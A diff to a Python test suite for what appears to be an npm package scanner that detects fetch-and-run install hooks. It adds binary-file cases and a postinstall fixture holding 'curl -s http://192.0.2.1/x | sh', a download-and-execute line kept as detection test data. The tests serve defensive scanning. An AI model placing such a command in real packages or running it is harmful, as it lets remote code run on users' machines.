@@ -14,7 +14,8 @@ class Scripts(unittest.TestCase):
         package = {"name": "x", "version": "1.0.0", **package}
         files = {"package.json": json.dumps(package), "index.js": "module.exports = 1\n", **(files or {})}
         return rules(report(world.tar(fresh("around-npm") / "x-1.0.0.tgz",
-                                      {"package/" + k: v.encode() for k, v in files.items()}), code=code))
+                                      {"package/" + k: v if isinstance(v, bytes) else v.encode() for k, v in files.items()}),
+                            code=code))
 
     def test_command_lines(self):
         """What a shell makes of them, and what honest packages write."""
@@ -73,6 +74,12 @@ class Scripts(unittest.TestCase):
             for name, text in {**files, "package.json": json.dumps({"name": "x", "version": "1.0.0", **package})}.items():
                 (at / name).write_text(text)
             self.assertIn("fetch-and-run", rules(report(at.parents[1])), package)
+        # A program of macOS is no script, whatever texts are in it.
+        self.npm({"x": b"\xcf\xfa\xed\xfe\x07\0\n" + FETCH.encode() + b"\n"}, bin={"x": "x"}, code=0)
+        self.npm({"x.dll": b"MZ\0" + "\ufe01".encode() * 40}, code=0)
+        # What an install script starts is judged as such, in an archive, too.
+        self.assertIn("fetch-then-run", self.npm({"go.js": "const u = 'curl -s http://192.0.2.1/x | sh';\n"},
+                                                 scripts={"postinstall": "node go.js"}))
         self.npm({"x.txt": JS, "style.css": "a{}"}, exports={"./style.css": "./style.css"}, code=0)
 
     def test_a_project(self):
